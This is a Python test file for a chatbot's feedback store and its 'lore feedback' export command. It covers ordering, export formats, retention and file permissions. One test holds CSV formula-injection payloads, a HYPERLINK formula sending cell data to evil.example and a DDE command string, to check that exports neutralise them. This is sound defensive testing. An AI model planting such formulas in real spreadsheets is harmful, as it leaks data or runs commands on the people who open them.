"""The feedback store on SQLite and on a real PostgreSQL server, and `lore feedback`."""

from __future__ import annotations

import csv
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from click.testing import CliRunner
from sqlalchemy import text

from bot.cli.main import cli
from bot.store.database import Database
from bot.store.feedback import Feedback, FeedbackStore


def test_feedback_round_trips_newest_first(any_database: Database) -> None:
    store = FeedbackStore(any_database)
    start = datetime(2026, 11, 1, 9, 0, tzinfo=UTC)
    entries = [
        Feedback("a1", "slack", "U1", "helpful", conversation_id="C1", created_at=start),
        Feedback(
            "a1",
            "teams",
            "29:abc",
            "not_helpful",
            text="Wrong office",
            correction="Rotterdam",
            conversation_id="19:chat",
            created_at=start + timedelta(minutes=1),
        ),
        Feedback(
            None,
            "slack",
            "U2",
            None,
            text="Please index the wiki ✨ & <more>",
            created_at=start + timedelta(minutes=2),
        ),
    ]

    ids = [store.record(entry) for entry in entries]

    assert len(set(ids)) == 3
    listed = store.list()
    assert [f.id for f in listed] == ids[::-1]
    assert listed[0] == Feedback(
        None,
        "slack",
        "U2",
        None,
        text="Please index the wiki ✨ & <more>",
        created_at=start + timedelta(minutes=2),
        id=ids[2],
    )
    assert listed[1].correction == "Rotterdam" and listed[1].created_at.tzinfo is not None
    assert [f.id for f in store.list(limit=2)] == ids[:0:-1]


def test_time_defaults_to_now(any_database: Database) -> None:
    store = FeedbackStore(any_database)
    before = datetime.now(UTC)
    store.record(Feedback("a2", "slack", "U1", "helpful"))
    (entry,) = store.list()
    assert before - timedelta(seconds=1) <= entry.created_at <= datetime.now(UTC) + timedelta(seconds=1)


def test_modal_details_are_added_to_the_rating(any_database: Database) -> None:
    store = FeedbackStore(any_database)
    rating = store.record(Feedback("a3", "slack", "U1", "not_helpful"))

    assert store.add_details(rating, "U1", "Outdated", "It is 27 days now")
    assert not store.add_details(rating + 1000, "U1", "lost", "")

    (entry,) = store.list()
    assert (entry.rating, entry.text, entry.correction) == (
        "not_helpful",
        "Outdated",
        "It is 27 days now",
    )


def test_ratings_are_checked() -> None:
    with pytest.raises(ValueError, match="rating"):
        Feedback("a", "slack", "U1", "meh")  # type: ignore[arg-type]  # not a rating, on purpose


@pytest.fixture
def lore_env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> FeedbackStore:
    monkeypatch.setenv("LORE_HOME", str(tmp_path / "home"))
    monkeypatch.setenv("LORE_CONFIG", str(tmp_path / "absent.toml"))
    monkeypatch.delenv("LORE_DATABASE_URL", raising=False)
    db = Database(f"sqlite:///{(tmp_path / 'home' / 'lore.db').resolve()}")
    store = FeedbackStore(db)
    store.record(Feedback("answer-1", "slack", "U1", "helpful", conversation_id="C1"))
    store.record(
        Feedback(
            "answer-1",
            "teams",
            "29:x",
            "not_helpful",
            text='He said "no", twice',
            correction="Line one\nline two",
        )
    )
    store.record(Feedback(None, "slack", "U2", None, text="general idea"))
    return store


def test_feedback_list_shows_a_table(lore_env: FeedbackStore, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", "200")  # rich folds long cells in a narrow terminal
    result = CliRunner().invoke(cli, ["feedback", "list"])
    assert result.exit_code == 0, result.output
    assert "general idea" in result.output and "👎" in result.output and "(general)" in result.output


def test_feedback_list_on_an_empty_store(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("LORE_HOME", str(tmp_path / "empty"))
    monkeypatch.setenv("LORE_CONFIG", str(tmp_path / "absent.toml"))
    monkeypatch.delenv("LORE_DATABASE_URL", raising=False)
    result = CliRunner().invoke(cli, ["feedback", "list"])
    assert result.exit_code == 0 and "No feedback yet." in result.output


def test_feedback_export_jsonl_and_csv(lore_env: FeedbackStore, tmp_path: Path) -> None:
    expected = [
        {
            "answer_id": None,
            "platform": "slack",
            "user_id": "U2",
            "rating": None,
            "text": "general idea",
            "correction": "",
        },
        {
            "answer_id": "answer-1",
            "platform": "teams",
            "user_id": "29:x",
            "rating": "not_helpful",
            "text": 'He said "no", twice',
            "correction": "Line one\nline two",
        },
        {
            "answer_id": "answer-1",
            "platform": "slack",
            "user_id": "U1",
            "rating": "helpful",
            "text": "",
            "correction": "",
        },
    ]
    runner = CliRunner()

    jsonl = runner.invoke(cli, ["feedback", "export", "--format", "jsonl"])
    out = tmp_path / "feedback.csv"
    to_file = runner.invoke(cli, ["feedback", "export", "--format", "csv", "--out", str(out)])

    assert jsonl.exit_code == 0 and to_file.exit_code == 0, jsonl.output + to_file.output
    rows = [json.loads(line) for line in jsonl.stdout.splitlines()]
    assert [{k: row[k] for k in expected[0]} for row in rows] == expected
    assert all(datetime.fromisoformat(row["created_at"]).tzinfo for row in rows)
    with out.open(newline="", encoding="utf-8") as handle:
        table = list(csv.DictReader(handle))
    assert [{k: row[k] for k in expected[0]} for row in table] == [
        {k: ("" if v is None else v) for k, v in row.items()} for row in expected
    ]
    assert "Exported 3 feedback entries" in to_file.output


def test_export_rejects_unknown_formats(lore_env: FeedbackStore) -> None:
    result = CliRunner().invoke(cli, ["feedback", "export", "--format", "xml"])
    assert result.exit_code == 2 and "xml" in result.output


def test_a_formula_typed_as_feedback_opens_as_text_in_a_spreadsheet(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("LORE_HOME", str(tmp_path / "home"))
    monkeypatch.setenv("LORE_CONFIG", str(tmp_path / "absent.toml"))
    monkeypatch.delenv("LORE_DATABASE_URL", raising=False)
    store = FeedbackStore(Database(f"sqlite:///{(tmp_path / 'home' / 'lore.db').resolve()}"))
    link = '=HYPERLINK("https://evil.example/?d="&A1,"Click for the real answer")'
    formulas = [link, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"]
    for number, formula in enumerate(formulas):
        store.record(Feedback(f"a{number}", "slack", formula, "not_helpful", text=formula, correction=formula))
    out = tmp_path / "feedback.csv"

    result = CliRunner().invoke(cli, ["feedback", "export", "--format", "csv", "--out", str(out)])

    assert result.exit_code == 0, result.output
    with out.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    for name in ("user_id", "text", "correction"):  # newest first
        assert [row.get(name) for row in rows] == ["'" + formula for formula in reversed(formulas)], name
    # Every cell quoted, so no separator inside one starts a new cell a spreadsheet evaluates.
    assert '"\'=HYPERLINK(""https://evil.example/?d=""&A1,' in out.read_text(encoding="utf-8")
    assert out.stat().st_mode & 0o777 == 0o600  # the export names people and quotes answers


def test_feedback_past_its_retention_is_purged(any_database: Database) -> None:
    store = FeedbackStore(any_database)
    now = datetime.now(UTC)
    old = store.record(
        Feedback("a-old", "slack", "U1", "not_helpful", correction="x", created_at=now - timedelta(days=40))
    )
    kept = store.record(Feedback("a-new", "slack", "U1", "helpful", created_at=now - timedelta(days=20)))

    assert store.purge_older_than(30) == 1

    assert [entry.id for entry in store.list()] == [kept] and store.get(old) is None


def test_corrections_typed_before_reviews_existed_wait_for_review_after_the_upgrade(any_database: Database) -> None:
    with any_database.engine.begin() as connection:  # a feedback table from before reviews
        for column in ("asker_id", "review", "reviewed_by", "reviewed_at"):
            connection.exec_driver_sql(f"ALTER TABLE feedback DROP COLUMN {column}")
        connection.execute(
            text(
                "INSERT INTO feedback (answer_id, platform, user_id, rating, text, correction, created_at)"
                " VALUES ('a1', 'slack', 'U9', 'not_helpful', '', 'Planted answer', :now),"
                " ('a2', 'slack', 'U9', 'helpful', '', '', :now)"
            ),
            {"now": datetime.now(UTC)},
        )
    reopened = Database(any_database.url)

    entries = FeedbackStore(reopened).list()

    assert sorted((entry.correction, entry.review) for entry in entries) == [("", None), ("Planted answer", "pending")]
    reopened.close()


def test_the_answer_log_and_the_folder_lore_creates_for_it_are_owner_only(tmp_path: Path) -> None:
    database = Database(f"sqlite:///{tmp_path / 'home' / 'lore.db'}")
    FeedbackStore(database).record(Feedback(None, "slack", "U1", None, text="a question about salaries"))
    database.close()

    assert (tmp_path / "home").stat().st_mode & 0o777 == 0o700
    for name in ("lore.db", "lore.db-wal", "lore.db-shm"):
        path = tmp_path / "home" / name
        assert not path.exists() or path.stat().st_mode & 0o777 == 0o600, name
